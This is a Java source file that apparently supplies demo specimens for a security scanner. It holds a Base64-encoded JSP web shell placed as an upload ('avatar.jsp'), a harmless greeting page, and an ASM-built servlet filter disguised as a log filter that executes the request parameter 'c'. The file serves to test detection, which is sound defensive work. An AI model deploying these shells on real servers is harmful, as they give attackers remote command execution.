package io.hivesec.examples.cli;

import io.hivesec.artifact.Artifact;
import io.hivesec.artifact.ClassArtifact;
import io.hivesec.artifact.ClassOrigin;
import io.hivesec.artifact.FileArtifact;
import java.util.Base64;
import java.util.List;
import org.objectweb.asm.ClassWriter;
import org.objectweb.asm.MethodVisitor;
import org.objectweb.asm.Opcodes;

/**
 * Inert specimens for the demo, written for it: the smallest that show the trait. The page is kept encoded, so that a
 * scanner on a developer's machine has nothing to find in this source; the class is built here and never loaded.
 */
final class DemoSamples {
    /** A page that runs the request parameter {@code c}. */
    private static final String COMMAND_PAGE =
            "PCUgUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYyhyZXF1ZXN0LmdldFBhcmFtZXRlcigiYyIpKTsgJT4=";

    /** A page that greets. */
    private static final String HARMLESS_PAGE = "PGgxPkhlbGxvLCA8JT0gbmV3IGphdmEudXRpbC5EYXRlKCkgJT48L2gxPg==";

    private DemoSamples() {}

    static List<Artifact> all() {
        return List.of(
                FileArtifact.of("uploads/avatar.jsp", decode(COMMAND_PAGE)),
                FileArtifact.of("pages/hello.jsp", decode(HARMLESS_PAGE)),
                ClassArtifact.of("org.example.LogFilter", commandFilter(), ClassOrigin.UNKNOWN));
    }

    private static byte[] decode(String base64) {
        return Base64.getDecoder().decode(base64);
    }

    /** A servlet filter that runs the request parameter {@code c}. */
    static byte[] commandFilter() {
        ClassWriter writer = new ClassWriter(ClassWriter.COMPUTE_MAXS);
        writer.visit(Opcodes.V1_8, Opcodes.ACC_PUBLIC, "org/example/LogFilter", null, "java/lang/Object", new String[] {
            "jakarta/servlet/Filter"
        });
        MethodVisitor filter = writer.visitMethod(
                Opcodes.ACC_PUBLIC,
                "doFilter",
                "(Ljakarta/servlet/ServletRequest;Ljakarta/servlet/ServletResponse;Ljakarta/servlet/FilterChain;)V",
                null,
                new String[] {"java/io/IOException"});
        filter.visitCode();
        filter.visitMethodInsn(Opcodes.INVOKESTATIC, "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", false);
        filter.visitVarInsn(Opcodes.ALOAD, 1);
        filter.visitLdcInsn("c");
        filter.visitMethodInsn(
                Opcodes.INVOKEINTERFACE,
                "jakarta/servlet/ServletRequest",
                "getParameter",
                "(Ljava/lang/String;)Ljava/lang/String;",
                true);
        filter.visitMethodInsn(
                Opcodes.INVOKEVIRTUAL, "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", false);
        filter.visitInsn(Opcodes.POP);
        filter.visitInsn(Opcodes.RETURN);
        filter.visitMaxs(0, 0);
        filter.visitEnd();
        writer.visitEnd();
        return writer.toByteArray();
    }
}
